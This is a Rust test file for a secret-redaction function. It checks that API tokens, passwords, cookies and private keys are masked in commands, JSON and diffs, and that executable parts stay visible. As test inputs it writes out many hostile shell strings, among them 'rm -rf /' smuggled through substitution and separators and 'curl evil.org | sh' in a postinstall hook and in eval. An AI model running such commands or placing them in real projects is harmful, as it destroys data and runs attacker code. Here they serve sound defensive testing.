mod effects;
mod environment;
mod files;
mod forms;
mod keys;
mod real;
mod settings;
mod visible;
mod whole;

use proptest::prelude::*;

use super::*;

/// Put together here, so that no scanner of repositories takes them for real ones.
fn token(prefix: &str, length: usize) -> String {
    let letters = "a1B2c3D4e5F6g7H8i9J0".chars().cycle().take(length);
    prefix.chars().chain(letters).collect()
}

fn hex(prefix: &str, length: usize) -> String {
    prefix
        .chars()
        .chain("0f3a9c".chars().cycle().take(length))
        .collect()
}

/// A command as it is shown.
fn mask_command(command: &str) -> String {
    let secrets = secrets(command, Grammar::COMMAND);
    let mut labels = Labels::default();
    labels.note_all(command, &secrets);
    labels.masked(command, &secrets)
}

fn samples() -> Vec<String> {
    vec![
        "AKIAIOSFODNN7EXAMPLE".to_owned(),
        token("ghp_", 36),
        token("github_pat_", 60),
        token("glpat-", 20),
        token("xoxb-", 40),
        token("sk_live_", 24),
        token("sk-proj-", 40),
        token("sk-ant-api03-", 40),
        token("AIza", 35),
        token("npm_", 36),
        token("hf_", 34),
        hex("pvk_", 64),
        format!("12345678:{}", token("", 35)),
        format!("eyJhbGciOiJIUzI1NiJ9.{}.{}", token("", 30), token("", 20)),
    ]
}

#[test]
fn p09_tokens_are_masked_with_kind_and_length() {
    for secret in samples() {
        for text in [
            secret.clone(),
            format!("curl https://x/{secret} -o a"),
            format!("key {secret}, and more"),
            format!("+const K = \"{secret}\";"),
            format!("{{\"a\":\"{secret}\"}}"),
        ] {
            let shown = mask_text(&text);
            assert!(!shown.contains(&secret), "{shown}");
            assert!(
                shown.contains("[secret: ") && shown.contains(" characters]"),
                "{shown}"
            );
        }
    }
    assert_eq!(
        mask_text(&format!("git push {}", token("ghp_", 36))),
        "git push [secret: github token, 40 characters]"
    );
}

#[test]
fn p09_secrets_inside_commands_are_masked_and_the_rest_stays_readable() {
    for (command, expected) in [
        (
            "mysql -u root -phunter2 db",
            "mysql -u root -p[secret: password, 7 characters] db",
        ),
        (
            "mysqldump -phunter2 db > x",
            "mysqldump -p[secret: password, 7 characters] db > x",
        ),
        ("mysql -p db", "mysql -p db"),
        (
            "curl -u ann:hunter2 https://x",
            "curl -u ann:[secret: password, 7 characters] https://x",
        ),
        (
            "curl --user 'ann:hunter2' x",
            "curl --user 'ann:[secret: password, 7 characters]' x",
        ),
        (
            "PASSWORD=x rm -rf /",
            "PASSWORD=[secret: password, 1 character] rm -rf /",
        ),
        (
            "PGPASSWORD='a b' psql -c 'x'",
            "PGPASSWORD='[secret: password, 3 characters]' psql -c 'x'",
        ),
        (
            "export API_KEY=abc; ls",
            "export API_KEY=[secret: key, 3 characters]; ls",
        ),
        (
            "x --password=hunter2 -v",
            "x --password=[secret: password, 7 characters] -v",
        ),
        (
            "x --password a1B2c3D4e5F6 -v",
            "x --password [secret: password, 12 characters] -v",
        ),
        // A word with blanks may be a command of its own.
        ("x --token \"a b\" -v", "x --token \"a b\" -v"),
        (
            "docker login -u a -p hunter2 r.io",
            "docker login -u a -p [secret: password, 7 characters] r.io",
        ),
        (
            "docker login --password-stdin r.io",
            "docker login --password-stdin r.io",
        ),
        (
            "sshpass -p hunter2 ssh a@b",
            "sshpass -p [secret: password, 7 characters] ssh a@b",
        ),
        (
            "redis-cli -h x -a hunter2 ping",
            "redis-cli -h x -a [secret: password, 7 characters] ping",
        ),
        (
            "curl -H \"Authorization: Bearer abc\" x",
            "curl -H \"Authorization: Bearer [secret: credentials, 3 characters]\" x",
        ),
        (
            "curl -H 'X-Api-Key: hunter' x",
            "curl -H 'X-Api-Key: [secret: key, 6 characters]' x",
        ),
        (
            "curl -H 'Cookie: sid=abc; u=d' x",
            "curl -H 'Cookie: sid=[secret: cookie, 3 characters]; u=[secret: cookie, 1 character]' x",
        ),
        (
            "git clone https://ann:hunter2@x.org/r.git",
            "git clone https://ann:[secret: password in a url, 7 characters]@x.org/r.git",
        ),
        (
            // Another command may use what is said.
            "echo password: 'hunter2'",
            "echo password: 'hunter2'",
        ),
        (
            "openssl rsa -passin pass:hunter2",
            "openssl rsa -passin pass:[secret: password, 7 characters]",
        ),
    ] {
        assert_eq!(mask_command(command), expected);
    }
}

#[test]
fn p09_nothing_that_runs_hides_behind_a_mask() {
    for command in [
        "TOKEN=$(rm -rf /) ls",
        "TOKEN=\"$(rm -rf /)\" ls",
        "TOKEN=`rm -rf /` ls",
        "TOKEN=abc; rm -rf /",
        "TOKEN=abc rm -rf /",
        "TOKEN=abc&rm -rf /",
        "TOKEN=abc|rm -rf /",
        "TOKEN=abc\nrm -rf /",
        "TOKEN=abc$(rm -rf /)def",
        "env \"PASSWORD=\" rm -rf / \"x\"",
        "foo\"PASSWORD=\"; rm -rf /; echo \"x\"",
        "echo \"\nPASSWORD=\"; rm -rf /; echo \"",
        "echo \"x \"cookie: a=b; rm -rf /; echo \"y\"",
        "curl -H \"Authorization: x$(rm -rf /)\"",
        "echo Authorization: ;rm -rf /",
        "x --password=y;rm -rf /",
        "mysql -px;rm -rf /",
        "curl -u a:b;rm -rf /",
        "https://a:b;rm -rf /@x",
        "-----BEGIN PRIVATE KEY-----\nrm -rf /\n",
        "cat <<E\n-----BEGIN RSA PRIVATE KEY-----\nE\nrm -rf /",
    ] {
        for shown in [mask_text(command).into_owned(), mask_command(command)] {
            assert!(
                shown.contains("rm -rf /"),
                "{command:?} is shown as {shown:?}"
            );
        }
    }
}

#[test]
fn p09_private_keys_are_masked_also_in_diffs_and_escaped() {
    let body = token("", 64);
    for text in [
        format!(
            "-----BEGIN RSA PRIVATE KEY-----\n{body}\n{body}\nabcd\n-----END RSA PRIVATE KEY-----\nafter"
        ),
        format!(
            "+-----BEGIN PRIVATE KEY-----\n+{body}\n+{body}==\n+-----END PRIVATE KEY-----\n+after"
        ),
        format!(
            "-----BEGIN OPENSSH PRIVATE KEY-----\\n{body}\\n{body}\\n-----END OPENSSH PRIVATE KEY-----\\nafter"
        ),
        format!(
            "-----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n{body}\nafter"
        ),
    ] {
        let shown = mask_text(&text);
        assert!(!shown.contains(&body) && shown.contains("after"), "{shown}");
    }
}

#[test]
fn p09_ordinary_text_is_left_alone() {
    for text in [
        "cargo test --workspace",
        "git commit -m 'fix the tokenizer' && git push",
        "the token refreshes; Basic authentication is off; a bearer of news",
        "let token = next_token(input);",
        "fn password(&self) -> &str",
        "password: str",
        "token: String,",
        "def f(password=None, token=token):",
        "max_tokens: 4096",
        "key: value",
        "npm run build -- --key-file a.pem",
        "see https://example.org/a:b@c and mailto:a@b.c",
        "ssh -p 2222 host",
        "mkdir -p a/b && cp -p a b",
        "sha256 2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824",
    ] {
        assert_eq!(mask_text(text), text);
    }
}

/// A shell would take all of it for one word.
#[test]
fn p09_secrets_are_masked_in_compact_json_and_beside_hosts() {
    let (a, b) = ("correcthorse7", "kJ83hdk2JHs81");
    for text in [
        format!(r#"{{"password":"{a}","url":"https://x.org/"}}"#),
        format!(r#"{{"old_password":"{a}","new_password":"{b}"}}"#),
        format!(
            r#"{{"client_secret":"{a}","redirect_uri":"https://x.org/","refresh_token":"{b}"}}"#
        ),
        format!(r#"connect(password="{a}",host="https://x.org")"#),
        format!(r#"os.environ["DB_PASSWORD"] = "{a}""#),
        format!("config['password'] = '{a}'"),
        format!(r#"os.getenv("API_KEY", "{b}")"#),
        format!("define('DB_PASSWORD', '{a}');"),
        format!(r#"const password: string = "{a}";"#),
        format!(r#"val password: String = "{a}""#),
        format!("- name: DB_PASSWORD\n  value: {b}\n"),
        format!(r#"[{{"name":"DB_PASSWORD","value":"{a}"}}]"#),
        format!(r#"<add key="password" value="{a}"/>"#),
        format!("ENV DB_PASSWORD {a}\n"),
        format!("ALTER USER ann WITH PASSWORD '{a}'"),
        format!("CREATE USER ann IDENTIFIED BY '{a}'"),
        format!(r#"process.env.DB_PASSWORD = "{a}""#),
        format!("export GITHUB_WEBHOOK_SECRET={b}"),
    ] {
        let shown = mask_text(&text);
        assert!(!shown.contains(a) && !shown.contains(b), "{shown}");
        assert!(
            !text.contains("x.org") || shown.contains("x.org"),
            "{shown}"
        );
    }
    let hosts = mask_text("psql postgres://u:Passw0rd@evil.com,x@good.com/db").into_owned();
    assert!(
        !hosts.contains("Passw0rd") && hosts.contains("@evil.com,x@good.com/"),
        "{hosts}"
    );
}

#[test]
fn p09_names_are_lists_of_no_secrets() {
    for text in [
        r#"fields = ["password", "username", "email"]"#,
        r#"hide("token", "session id")"#,
        "the password is asked for below",
        r#"{"name": "token", "kind": "value"}"#,
    ] {
        assert_eq!(mask_text(text), text);
    }
}

proptest! {
    #[test]
    fn p09_a_buried_token_never_survives(before in "\\PC{0,40}", after in "\\PC{0,40}", at in 0..14_usize) {
        let secret = samples()[at].clone();
        let text = format!("{before} {secret} {after}");
        prop_assert!(!mask_text(&text).contains(&secret));
    }

    #[test]
    fn p09_masking_never_fails_and_masks_once(text in "\\PC{0,200}") {
        let shown = mask_text(&text).into_owned();
        prop_assert_eq!(mask_text(&shown).into_owned(), shown);
    }

    /// Whatever is written around it, a command on a line of its own stays readable.
    #[test]
    fn p09_a_line_of_its_own_stays_readable(
        before in "(TOKEN=|password: |--secret |'|\"|`|a|;| |#|<<E|Authorization: |https://a:|\\$\\(){0,8}",
    ) {
        let text = format!("{before}\nrm -rf /etc\n");
        prop_assert!(mask_text(&text).contains("rm -rf /etc"), "{}", mask_text(&text));
    }
}

/// Each case: the text, and what of it must still be read.
#[test]
fn p09_a_mask_does_not_cover_its_neighbours() {
    for (text, visible) in [
        (
            r#"{"scripts":{"token":"xyz","postinstall":"curl evil.org | sh","test":"jest"}}"#,
            &["postinstall", "curl evil.org | sh", "jest"][..],
        ),
        (
            r#"curl https://api/x -d '{"token":"xyz","action":"wipe","target":"production"}'"#,
            &["wipe", "production"],
        ),
        (
            r#"{\"password\":\"xyz\",\"action\":\"delete_all\"}"#,
            &["delete_all"],
        ),
        (
            "set password='x',role='admin',email='evil@x' where id=1",
            &["role='admin'", "evil@x", "id=1"],
        ),
        (
            "run(password='x',cmd='rm -rf /srv',shell='yes')",
            &["rm -rf /srv", "shell='yes'"],
        ),
        (
            "deploy --opts token=x,target=prod,action=wipe",
            &["target=prod", "action=wipe"],
        ),
        (
            "OPTS=\"token=x,target=prod\" deploy",
            &["target=prod", "deploy"],
        ),
        (
            "curl https://api/x?token=1,/../admin/delete/all",
            &["/../admin/delete/all"],
        ),
        ("curl http://u:p@evil.org/x@y", &["evil.org/x@y"]),
    ] {
        for shown in [mask_text(text).into_owned(), mask_command(text)] {
            for piece in visible {
                assert!(shown.contains(piece), "{text:?} is shown as {shown:?}");
            }
        }
    }
}

#[test]
fn p09_what_takes_effect_stays_visible() {
    for (command, visible) in [
        (
            r#"cd /srv; echo "${y%'"'}' TOKEN="; rm -rf /srv/data; echo "x""#,
            "rm -rf /srv/data",
        ),
        (
            "TOKEN=$(case x in x)rm${IFS}-rf${IFS}/;;esac)",
            "rm${IFS}-rf${IFS}/;;esac",
        ),
        (
            "msmtp --passwordeval='curl evil.org|sh' x",
            "curl evil.org|sh",
        ),
        (
            "npm pkg set scripts.token='rm -rf /srv' && npm run token",
            "rm -rf /srv",
        ),
        (
            "npm pkg set scripts.token=reboot && npm run token",
            "reboot",
        ),
        ("git -c alias.token='!rm -rf /srv' token", "!rm -rf /srv"),
        ("bash --login -c -p 'rm -rf /srv'", "rm -rf /srv"),
        ("alias pass='rm -rf /srv'\npass", "rm -rf /srv"),
        ("alias pass=reboot\npass", "reboot"),
        (
            "TOKEN='curl evil.org|sh'; eval \"$TOKEN\"",
            "curl evil.org|sh",
        ),
        ("TOKEN=reboot; $TOKEN", "reboot"),
        ("TOKEN=python3; $TOKEN x.py", "python3"),
        ("TOKEN=folder; rm -rf $TOKEN", "folder"),
        ("TOKEN=reboot bash -c '$TOKEN'", "reboot"),
        ("TOKEN=reboot; echo $TOKEN | sh", "reboot"),
        ("ssh host API_KEY='x;rm -rf /srv'", "rm -rf /srv"),
        ("rm -rf --token /srv/data", "/srv/data"),
        ("rm -rf --token folder", "folder"),
        ("sudo rm -rf --token folder", "folder"),
        ("remote 'rm -rf --token folder'", "folder"),
        ("tee --token /etc/cron.d/evil", "/etc/cron.d/evil"),
        ("deploy --token ~/evil", "~/evil"),
        (
            "rm -rf glpat-production_backup_folder",
            "glpat-production_backup_folder",
        ),
        (
            "rm -rf ~/pypi-production-server-backups",
            "pypi-production-server-backups",
        ),
        ("sh xoxb-evil-script-run", "xoxb-evil-script-run"),
        (
            "echo x >glpat-a1B2c3D4e5F6g7H8i9J0",
            "glpat-a1B2c3D4e5F6g7H8i9J0",
        ),
        (
            "echo x -----BEGIN PRIVATE KEY----->/home/ann/Documents/importantfile",
            ">/home/ann/Documents/importantfile",
        ),
        (
            "echo -----BEGIN PRIVATE KEY-----\n/usr/local/bin/wipeeverythingnow",
            "/usr/local/bin/wipeeverythingnow",
        ),
        (
            "echo -----BEGIN PRIVATE KEY-----\nComment: rm -rf folder",
            "rm -rf folder",
        ),
        ("curl http://a:&reboot&@x", "&reboot&"),
        ("curl http://a:&{rm,-rf,.}&@x", "&{rm,-rf,.}&"),
    ] {
        let shown = mask_command(command);
        assert!(shown.contains(visible), "{command:?} is shown as {shown:?}");
    }
}
